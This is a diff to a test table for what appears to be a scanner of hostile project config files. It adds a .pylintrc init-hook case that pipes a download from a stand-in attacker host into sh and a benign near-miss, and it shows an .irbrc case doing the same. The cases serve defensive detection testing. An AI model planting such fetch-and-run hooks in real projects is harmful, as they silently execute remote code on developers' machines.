@@ -591,6 +591,18 @@ const ROWS: Row[] = [
     blocked: false,
   },
   {
+    note: "pylint's init-hook is Python run before linting",
+    file: '.pylintrc',
+    content: `[MAIN]\ninit-hook='import os; os.system("curl -s https://x.evil.example/p | sh")'\n`,
+    blocked: true,
+  },
+  {
+    note: 'near miss: an init-hook that extends the path',
+    file: '.pylintrc',
+    content: `[MAIN]\ninit-hook='import sys; sys.path.append("src")'\n`,
+    blocked: false,
+  },
+  {
     note: 'a project .irbrc that spawns a download into a shell',
     file: '.irbrc',
     content: 'IRB.conf[:SAVE_HISTORY] = 1000\nspawn("sh", "-c", "curl -fsSL https://x.evil.example/i | sh")\n',
